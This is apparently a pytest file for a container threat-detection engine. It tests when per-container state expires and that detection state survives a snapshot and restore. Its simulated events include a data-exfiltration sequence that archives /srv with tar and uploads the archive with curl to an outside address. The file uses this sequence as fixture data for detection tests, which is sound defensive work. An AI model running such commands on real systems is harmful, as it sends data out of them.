"""Per-container state goes when the container idles or exits; detection state survives a
restart whole, identities included."""

from __future__ import annotations

import pytest

from tests.builders import api_call, connect, container, flow, launch
from tidewaiter.detection.analytics import Finding
from tidewaiter.events import Activity, Container, Event, Image
from tidewaiter.pipeline import Engine
from tidewaiter.watch import state
from tidewaiter.watch.expiry import Expiry

FULL = "4f1c2b9e7d6a5c3b2a1908f7e6d5c4b3a29180f7e6d5c4b3a2918f7e6d5c4b3a"


class Run:
    """An engine fed the way the watch runner feeds it."""

    def __init__(self, ttl: float = 3600.0, grace: float = 60.0) -> None:
        self.findings: list[Finding] = []
        self.engine = Engine(self.findings.append)
        self.expiry = Expiry(ttl, grace)

    def feed(self, *events: Event) -> None:
        for event in events:
            self.engine.process(event)
            self.expiry.observe(event)
            for key in self.expiry.expired(self.engine.correlator.watermark):
                self.engine.forget(key)

    def knows(self, uid: str) -> bool:
        return self.engine.identities.resolve(Container(uid=uid[:12])).image is not None


def test_an_idle_container_is_forgotten_and_its_open_episode_decided() -> None:
    run = Run(ttl=1800.0)
    run.feed(
        launch("tar -czf /tmp/a.tgz /srv", time=1000.0, ctr=container()),
        connect("203.0.113.9", time=1010.0, ctr=container()),
    )
    assert run.knows(FULL)
    assert run.engine.correlator.open_episodes == 1
    other = container("9" * 64, name="other")
    run.feed(launch("ls", time=1500.0, ctr=other))
    assert run.knows(FULL)
    assert len(run.expiry) == 2
    zeek = flow("10.0.3.45", "203.0.113.9", 443, time=1500.0, sent=10)  # no container named
    assert run.engine.addresses.owner(zeek) is not None  # its address still says whose it is
    run.feed(launch("ls", time=1010.0 + 1800.0, ctr=other))
    assert not run.knows(FULL)
    assert run.engine.addresses.owner(zeek) is None
    assert len(run.expiry) == 1
    [finding] = run.findings
    assert finding.entity.container is not None
    assert finding.entity.container.image == Image(name="registry.example.com/payments/api:1.4")


def test_a_stopped_container_is_forgotten_after_the_grace_unless_it_runs_again() -> None:
    run = Run(grace=60.0)
    first, second = container(), container("9" * 64, name="job")
    stop = Activity.STOP
    run.feed(launch("sh", time=1000.0, ctr=first), launch("sh", time=1000.0, ctr=second))
    run.feed(api_call("die", time=1001.0, ctr=first, activity=stop))
    run.feed(api_call("die", time=1001.0, ctr=second, activity=stop))
    run.feed(launch("sh", time=1030.0, ctr=second))  # restarted: the same id runs again
    run.feed(launch("ls", time=1062.0, ctr=container("7" * 64, name="x")))
    assert not run.knows(FULL)
    assert run.knows("9" * 64)


def test_snapshot_restore_carries_episodes_identities_and_expiry() -> None:
    before = Run(ttl=1800.0)
    before.feed(launch("tar -czf /tmp/a.tgz /srv", time=1000.0, ctr=container()))
    saved = state.snapshot(before.engine, before.expiry)

    after = Run(ttl=1800.0)
    state.restore(saved, after.engine, after.expiry)
    bare = Container(uid=FULL[:12])  # a later record naming the container by 12 characters
    after.feed(connect("203.0.113.9", time=1010.0, ctr=bare))
    after.feed(
        launch("curl -T /tmp/a.tgz https://203.0.113.9/", time=1011.0, ctr=bare),
        launch("ls", time=4000.0, ctr=container("9" * 64)),
    )
    [finding] = after.findings
    assert finding.entity.container is not None
    assert finding.entity.container.name == "api"  # from the identities in the checkpoint
    assert len(after.expiry) == 1  # the first container expired on schedule after the restart


def test_a_checkpoint_from_another_version_is_refused_not_misread() -> None:
    run = Run()
    with pytest.raises(ValueError, match="detection state"):
        state.restore(b"\x93\x01\x02\x03", run.engine, run.expiry)
